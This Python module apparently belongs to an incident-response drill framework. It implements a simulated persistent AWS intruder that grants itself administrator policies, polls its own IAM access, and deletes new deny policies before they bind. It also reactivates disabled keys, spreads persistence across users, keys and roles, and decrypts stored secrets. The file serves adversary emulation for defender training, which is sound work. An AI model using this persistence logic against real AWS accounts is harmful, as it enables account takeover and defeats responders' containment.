"""*persistent*: he looks at his own access every half second, and takes back whatever is taken from him.

A read of IAM shows a write at once, but the write binds seconds later. He lives in that gap: a deny that he sees he
deletes before it binds, a key he finds inactive he makes active again; touched once, he scatters: users, keys, roles,
sessions, a grant. He uses every credential that he ever had. A service control policy he can neither see nor change.
The idea is that of OffensAI's *notyet* (2026), told in its README; nothing is taken from its code.
"""

from __future__ import annotations

import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from random import Random

from irkit.drill.world.adversaries.adversary import Loot
from irkit.drill.world.adversaries.break_in import ADMINISTRATOR, break_in
from irkit.drill.world.adversaries.guard import Guard
from irkit.drill.world.adversaries.hand import Hand, attempt, decrypted, is_denial
from irkit.drill.world.adversaries.moves import MOVES, Move
from irkit.drill.world.aws_caller import AwsCaller, AwsRefused
from irkit.drill.world.signature import KeyPair

_TICK_S = 0.5
_LATER_S = 1.5
"""How often he comes back when nothing works any more."""
_FEWEST_MOVES = 5
_HANDS = 4
"""How many credentials he tries for one thing in one look."""
_WATCHED = 2
"""How many of his users he watches."""
_ENOUGH = 40
"""Of credentials: he keeps no more."""
_EAGER = 0.3
_GREED = 0.3


@dataclass
class Persistent:
    """Somebody who watches himself."""

    hand: Hand
    _random: Random = field(init=False)
    _moves: list[Move] = field(init=False)
    _guards: dict[str, Guard] = field(default_factory=dict)
    _best: list[KeyPair] = field(default_factory=list)
    _touched: bool = False

    def __post_init__(self) -> None:
        self._random = Random(self.hand.random.random())
        count = self._random.randrange(_FEWEST_MOVES, len(MOVES) + 1)
        self._moves = self._random.sample(MOVES, count)
        self._touched = self._random.random() < _EAGER

    @property
    def loot(self) -> Loot:
        """All he took and left."""
        return self.hand.loot

    def before(self) -> None:
        """The break-in, and every right for himself."""
        break_in(self.hand)
        hand = self.hand
        for arn in hand.foothold.suspects:
            kind = "User" if ":user/" in arn else "Role"
            asked = {f"{kind}Name": arn.rpartition("/")[2], "PolicyArn": ADMINISTRATOR}
            attempt(hand.past(hand.own(), 40).query, "iam", f"Attach{kind}Policy", asked)

    def live(self, stopping: threading.Event) -> None:
        """Watches, takes back, scatters, steals; when nothing works any more he goes on trying."""
        has_power = self._watch()
        while not stopping.wait((_TICK_S if has_power else _LATER_S) * self._random.uniform(0.8, 1.2)):
            has_power = self._watch() or self._fresh()
            if self._touched and self._moves:
                self._scatter(stopping)
            if self._random.random() < _GREED:
                self._steal()

    def tries(self) -> dict[str, str]:
        """What each of his credentials gets right now."""
        return self.hand.tries()

    def _credentials(self) -> list[KeyPair]:
        """All he ever had, in any order."""
        held = [one.keys for one in self.hand.loot.held.values()]
        every = [*self.hand.foothold.keys.values(), *held]
        self._random.shuffle(every)
        return every

    def _strongest(self) -> list[KeyPair]:
        """The one that worked last, then keys and roles, then sessions of users, which may not call IAM."""

        def rank(keys: KeyPair) -> int:
            if keys in self._best:
                return 0
            is_session = keys.session_token is not None and ":assumed-role/" not in self.hand.arn_of(keys)
            return 2 if is_session else 1

        return sorted(self._credentials(), key=rank)

    def _guarded(self) -> list[Guard]:
        own = [*self.hand.foothold.suspects, *(held.arn for held in self.hand.loot.held.values())]
        for arn in own:
            kind = "User" if ":user/" in arn else "Role" if ":role/" in arn else ""
            if kind:
                self._guards.setdefault(arn, Guard(self.hand, kind, arn.rpartition("/")[2]))
        return list(self._guards.values())[:_WATCHED]

    def _watch(self) -> bool:
        """Whether he still has a credential that may look."""
        for guard in self._guarded():
            try:
                if self._by_any(guard.look):
                    self._touched = True
            except Powerless:
                self._touched = True
                return False
        return True

    def _fresh(self) -> bool:
        """Whether he got a new session from a runner of the CI, where he sits on one."""
        if self.hand.foothold.web is None or len(self.loot.held) >= _ENOUGH:
            return False
        return attempt(self.hand.web_session) is not None

    def _scatter(self, stopping: threading.Event) -> None:
        while self._moves and not stopping.is_set():
            try:
                self._by_any(partial(self._moved, self._moves[-1]))
            except Powerless:
                return
            self._moves.pop()

    def _moved(self, move: Move, caller: AwsCaller) -> bool:
        move(self.hand, caller)
        return True

    def _steal(self) -> None:
        if not self.hand.foothold.sealed:
            return
        wanted = self._random.choice(self.hand.foothold.sealed)
        for pair in self._credentials()[:2]:
            if attempt(decrypted, self.hand.now(pair), wanted) is not None:
                return

    def _by_any(self, act: Callable[[AwsCaller], bool]) -> bool:
        """Do it with the first credential that may. Raises Powerless when none may."""
        for pair in self._strongest()[:_HANDS]:
            try:
                done = act(self.hand.now(pair))
            except AwsRefused as refusal:
                if not is_denial(refusal):
                    return False
                self._best = [one for one in self._best if one != pair]
            except OSError:
                continue
            else:
                self._best = [pair]
                return done
        raise Powerless


class Powerless(Exception):
    """No credential at hand may do it now."""
